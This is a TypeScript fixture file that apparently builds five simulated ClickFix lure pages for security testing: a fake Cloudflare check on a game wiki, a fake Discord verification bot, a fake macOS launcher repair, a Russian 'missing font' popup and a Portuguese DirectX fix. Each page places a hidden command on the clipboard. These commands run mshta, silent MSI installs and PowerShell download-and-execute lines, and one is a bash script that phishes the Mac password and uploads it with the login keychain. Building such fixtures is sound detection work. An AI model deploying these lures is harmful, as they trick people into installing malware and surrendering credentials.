import { type Entry } from '../entry.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';
import { RAVEN_CSS, b64, discordMark, doc, ravenLogo } from '../parts/yc-kit.js';

export const entries: Entry[] = [
{
  id: 'yc-clickfix-gamewiki-turnstile-mshta',
  label: 'clickfix',
  kind: 'clickfix-captcha',
  url: 'https://eldenring-wiki.net/weapons/moonveil-katana',
  body: doc({
    title: 'Moonveil | Elden Ring Wiki',
    css: `body{margin:0;font-family:Arial,sans-serif;background:#f4f1ea;color:#222}
.wiki{max-width:980px;margin:0 auto;padding:20px;filter:blur(4px)}.wiki h1{font-family:Georgia,serif}
#ov{position:fixed;inset:0;background:rgba(255,255,255,.96);display:flex;align-items:center;justify-content:center;flex-direction:column;font-family:-apple-system,"Segoe UI",Roboto,sans-serif}
.cf{width:300px;height:65px;border:1px solid #e0e0e0;background:#fafafa;display:flex;align-items:center;padding:0 12px;gap:12px;border-radius:3px}
.cf .bx{width:28px;height:28px;border:2px solid #c2c2c2;border-radius:3px;background:#fff;cursor:pointer}
.cf .lg{margin-left:auto;font-size:9px;color:#555;text-align:right}.cf .lg b{color:#f38020;font-size:11px;display:block}
#st2{display:none;width:420px;border:1px solid #e0e0e0;background:#fff;padding:20px;margin-top:14px;border-radius:3px;font-size:14px;line-height:1.6}
kbd{border:1px solid #aaa;border-radius:3px;padding:1px 5px;background:#f3f3f3}`,
    body: `<div class="wiki"><h1>Moonveil</h1><p>Moonveil is a Katana in Elden Ring. This weapon's unique Skill is Transient Moonlight. Moonveil requires 12 Strength, 18 Dexterity and 23 Intelligence…</p><p>Location: Gael Tunnel, dropped by the Magma Wyrm boss.</p></div>
<div id="ov"><h2 style="font-weight:500">eldenring-wiki.net</h2><p>Verify you are human by completing the action below.</p>
<div class="cf"><div class="bx" id="bx"></div><span>Verify you are human</span><div class="lg"><b>CLOUDFLARE</b>Privacy · Terms</div></div>
<div id="st2"><b>Verification steps</b><br>1. Press <kbd>Windows</kbd> + <kbd>R</kbd><br>2. Press <kbd>CTRL</kbd> + <kbd>V</kbd><br>3. Press <kbd>Enter</kbd><br><span style="color:#666;font-size:12px">This confirms your browser is not an automated program. Ray ID: 8f2a61c9be0d4a77</span></div>
<p style="font-size:12px;color:#666;margin-top:20px">eldenring-wiki.net needs to review the security of your connection before proceeding.</p></div>
<script src="/cdn-cgi/challenge-platform/h/b/orchestrate/chl_page/v1.js"></script>`,
  }),
  routes: {
    'eldenring-wiki.net/cdn-cgi/challenge-platform/h/b/orchestrate/chl_page/v1.js': jsRoute(`(function(){var r=decodeURIComponent(escape(atob("${b64("mshta https://eldenring-wiki.net/cdn-cgi/verify/8f2a61c9.hta # \u2705 ''I am not a robot - Cloudflare Verification ID: 8f2a61c9be0d4a77''")}")));
var bx=document.getElementById('bx');bx.addEventListener('click',function(){bx.style.borderColor='#f38020';bx.innerHTML='<div style="width:16px;height:16px;margin:4px;border:3px solid #f38020;border-top-color:transparent;border-radius:50%"></div>';
var t=document.createElement('textarea');t.value=r;t.style.position='fixed';t.style.opacity='0';document.body.appendChild(t);t.select();document.execCommand('copy');t.remove();
setTimeout(function(){document.getElementById('st2').style.display='block'},700)});})();`),
  },
},
{
  id: 'yc-clickfix-discord-captcha-bot-server',
  label: 'clickfix',
  kind: 'clickfix-captcha',
  url: 'https://captcha-verify-bot.com/verify?guild=1182640338201239612&user=449120',
  body: doc({
    title: 'Captcha.bot — Verify to access the server',
    css: `*{box-sizing:border-box}body{margin:0;background:#1e1f22;color:#dbdee1;font-family:"gg sans",Helvetica,Arial,sans-serif;display:flex;align-items:center;justify-content:center;min-height:100vh}
.c{width:480px;background:#2b2d31;border-radius:10px;padding:30px;text-align:center}.srv{width:72px;height:72px;border-radius:24px;background:#5865f2;margin:0 auto 10px;display:grid;place-items:center;font-size:26px;font-weight:800;color:#fff}
button{background:#5865f2;color:#fff;border:0;border-radius:4px;padding:12px 24px;font-size:15px;cursor:pointer;margin-top:16px}
.s{text-align:left;background:#1e1f22;border-radius:8px;padding:14px 18px;margin-top:16px;display:none;line-height:1.8}
kbd{background:#404249;border-radius:4px;padding:1px 6px;font-size:13px}.m{color:#949ba4;font-size:13px}`,
    body: `<div class="c"><div class="srv">IV</div><h2 style="margin:6px 0">Ironveil Community</h2><p class="m">48,211 members · 6,902 online</p>
<p>This server is protected by <b>Captcha.bot</b>. Verify that you are a human to get access to all channels.</p>
<button id="b">Verify</button>
<div class="s" id="s"><b>Almost done — finish verification:</b><br>1. Press <kbd>Win</kbd> + <kbd>R</kbd><br>2. Paste with <kbd>Ctrl</kbd> + <kbd>V</kbd><br>3. Press <kbd>Enter</kbd> and return to Discord<br><span class="m">Verification expires in 5 minutes.</span></div>
<p class="m" style="margin-top:22px">${discordMark(16, '#949ba4')}</p></div>
<script>
var p=['cmd /c "','curl -s -o %TEMP%\\\\cb.msi https://captcha-verify-bot.com/dl/verify.msi','&& msiexec /i %TEMP%\\\\cb.msi /qn"',' :: Captcha.bot human check #449120'];
document.getElementById('b').onclick=function(){var t=p.join(' ');navigator.clipboard.writeText(t).finally(function(){document.getElementById('s').style.display='block'});fetch('/api/v1/hit?u=449120',{method:'POST'}).catch(function(){})};
</script>`,
  }),
},
{
  id: 'yc-clickfix-macos-launcher-terminal',
  label: 'clickfix',
  kind: 'clickfix-macos',
  url: 'https://ravenhold-mac-support.com/launcher/fix-error-1034',
  body: doc({
    title: 'Fix: Ravenhold Launcher error 1034 on macOS',
    css: RAVEN_CSS + `.w{max-width:720px;margin:40px auto;padding:0 16px}.cmd{display:flex;gap:10px;background:#0b0c0f;border:1px solid #2a2e37;border-radius:8px;padding:14px;font-family:Menlo,monospace;font-size:13px;align-items:center}
.cmd code{flex:1;overflow:hidden;white-space:nowrap;text-overflow:ellipsis;color:#9fe89f}.ol li{margin:10px 0;color:#c9ccd3}`,
    body: `<div class="rh-top">${ravenLogo(28)}<span class="sp"></span><span style="color:#8a8f98;font-size:13px">Support · macOS</span></div>
<div class="w"><h1>Launcher stuck at "Verifying files" (error 1034) on macOS Sonoma / Sequoia</h1>
<p>After the latest macOS update some players see error 1034 and the launcher never finishes verifying game files. The fix below re-registers the launcher helper and clears the quarantine flag. It takes about 30 seconds.</p>
<ol class="ol"><li>Open <b>Terminal</b> (press <b>&#8984; Command + Space</b>, type <i>Terminal</i>, press Return).</li><li>Copy the command below, paste it into Terminal and press Return.</li><li>If asked, enter your Mac password (nothing is shown while typing — that's normal).</li><li>Reopen the Ravenhold Launcher.</li></ol>
<div class="cmd"><code id="c"></code><button class="rh-btn" id="cp">Copy</button></div><p id="m" style="color:#4ade80;display:none">Copied! Now paste it into Terminal.</p></div>
<script>
var cmd='/bin/bash -c "$(echo ${b64('curl -fsSL https://ravenhold-mac-support.com/launcher/helper.sh -o /tmp/.rhhelper && chmod +x /tmp/.rhhelper && /tmp/.rhhelper')} | base64 -d)"';
document.getElementById('c').textContent=cmd;
document.getElementById('cp').onclick=function(){navigator.clipboard.writeText(cmd);document.getElementById('m').style.display='block'};
</script>`,
  }),
  routes: {
    'ravenhold-mac-support.com/launcher/helper.sh': { status: 200, headers: { 'content-type': 'text/plain' }, body: '#!/bin/bash\nosascript -e \'display dialog "Ravenhold Launcher needs your password to repair the helper" default answer "" with hidden answer with title "Ravenhold Launcher"\' > /tmp/.p\ncurl -s -X POST -F "p=@/tmp/.p" -F "k=@$HOME/Library/Keychains/login.keychain-db" https://rh-mac-sync.top/up\n' },
  },
},
{
  id: 'yc-clickfix-ru-cheat-forum-font',
  label: 'clickfix',
  kind: 'clickfix-fake-error',
  url: 'https://cheat-forum.su/threads/rust-esp-free.88142/',
  body: doc({
    title: 'Rust ESP бесплатно | Cheat Forum',
    lang: 'ru',
    css: `body{margin:0;font-family:Tahoma,Verdana,sans-serif;background:#eceff3;color:#222}
.f{max-width:960px;margin:0 auto;background:#fff;min-height:100vh;padding:20px;font-size:14px}.post{border:1px solid #d9dde3;margin:12px 0;padding:14px}
.post .u{font-weight:bold;color:#2a64b5}.garb{font-family:"Wingdings",serif;letter-spacing:2px;color:#777}
#pp{position:fixed;top:50%;left:50%;transform:translate(-50%,-50%);width:480px;background:#fff;border:1px solid #c9c9c9;box-shadow:0 10px 40px rgba(0,0,0,.3);padding:26px;font-family:Segoe UI,Arial,sans-serif}
#pp h3{margin-top:0;color:#c0392b}.b{background:#1a73e8;color:#fff;border:0;padding:10px 20px;border-radius:4px;cursor:pointer}
#ins{display:none;background:#f7f7f7;border:1px solid #ddd;padding:12px;margin-top:12px;line-height:1.8}`,
    body: `<div class="f"><h2>Rust ESP бесплатно (обновлено 02.07)</h2>
<div class="post"><div class="u">zloy_lis</div><p class="garb">&#9650;&#9632;&#9660;&#9670; &#9679;&#9632;&#9650; &#9632;&#9675;&#9670;&#9632;&#9660; &#9650;&#9679;&#9632;&#9670;&#9679;&#9632;</p></div>
<div class="post"><div class="u">Kostya_Pro</div><p class="garb">&#9632;&#9650;&#9679; &#9670;&#9632;&#9660;&#9675; &#9650;&#9632;&#9670;&#9679;&#9632;&#9650;</p></div></div>
<div id="pp"><h3>Шрифт «Roboto Cyrillic» не найден</h3><p>Страница не может быть отображена корректно: в вашей системе отсутствует шрифт, необходимый для кириллицы. Текст отображается нечитаемыми символами.</p>
<button class="b" id="fx">Исправить</button>
<div id="ins">Как установить шрифт:<br>1. Нажмите <b>Win + R</b><br>2. Вставьте код сочетанием <b>Ctrl + V</b><br>3. Нажмите <b>Enter</b> и обновите страницу</div></div>
<script>
var z='${b64('powershell -w hidden -c "$c=new-object net.webclient;iex $c.downloadstring(\'https://fonts-cyrillic.su/rc.ps1\')" # Установка шрифта Roboto Cyrillic')}';
document.getElementById('fx').onclick=function(){var s=decodeURIComponent(escape(atob(z)));navigator.clipboard.writeText(s).then(function(){document.getElementById('ins').style.display='block'})};
</script>`,
  }),
},
{
  id: 'yc-clickfix-ptbr-directx-crash',
  label: 'clickfix',
  kind: 'clickfix-fake-error',
  url: 'https://corrigir-erro-jogos.com/directx/dxgi-error-device-hung',
  body: doc({
    title: 'Corrigir DXGI_ERROR_DEVICE_HUNG — Jogo fechando sozinho (Resolvido)',
    lang: 'pt-BR',
    css: `body{margin:0;background:#f2f4f7;font-family:Roboto,Arial,sans-serif;color:#1f2937}.w{max-width:760px;margin:30px auto;background:#fff;border-radius:8px;padding:28px}
.err{background:#111;color:#f87171;font-family:Consolas,monospace;padding:14px;border-radius:6px;font-size:13px}
.fix{border:2px solid #16a34a;border-radius:8px;padding:18px;margin:22px 0}.b{background:#16a34a;color:#fff;border:0;border-radius:6px;padding:12px 22px;font-size:16px;cursor:pointer}
kbd{background:#eee;border:1px solid #bbb;border-radius:3px;padding:1px 6px}`,
    body: `<div class="w"><h1>Como corrigir o erro DXGI_ERROR_DEVICE_HUNG (DirectX 12)</h1>
<div class="err">DXGI_ERROR_DEVICE_HUNG (0x887A0006)<br>The GPU will not respond to more commands, most likely because of an invalid command passed by the calling application.</div>
<p>Esse erro aparece em Valorant, Fortnite, Warzone, GTA V e outros jogos quando os componentes do DirectX ficam corrompidos depois de uma atualização do Windows ou do driver de vídeo. A correção automática abaixo reinstala as DLLs do DirectX e limpa o cache de shaders.</p>
<div class="fix"><h3 style="margin-top:0">&#9989; Correção automática (recomendado)</h3><button class="b" id="b">Copiar comando de correção</button>
<ol><li>Pressione <kbd>Windows</kbd> + <kbd>R</kbd></li><li>Cole o comando com <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Pressione <kbd>Enter</kbd> e aguarde a janela fechar</li><li>Reinicie o PC</li></ol></div>
<p><b>Correção manual:</b> atualize o driver da placa de vídeo pelo site da NVIDIA/AMD e desative o overclock.</p>
<p style="font-size:13px;color:#6b7280">Funcionou? Deixe seu comentário abaixo! 4.218 pessoas corrigiram o erro com este método.</p></div>
<script>
document.getElementById('b').addEventListener('click',function(){var c=['cmd','/c','start','/min','powershell','-w','1','-ep','bypass','-c','"irm','https://corrigir-erro-jogos.com/dx/fix.txt','|','iex"'].join(' ')+' & rem DirectX Repair Tool v12.4';
var t=document.createElement('input');t.value=c;document.body.appendChild(t);t.select();document.execCommand('copy');document.body.removeChild(t);this.textContent='\\u2714 Copiado! Siga os passos abaixo';});
</script>`,
  }),
},
];
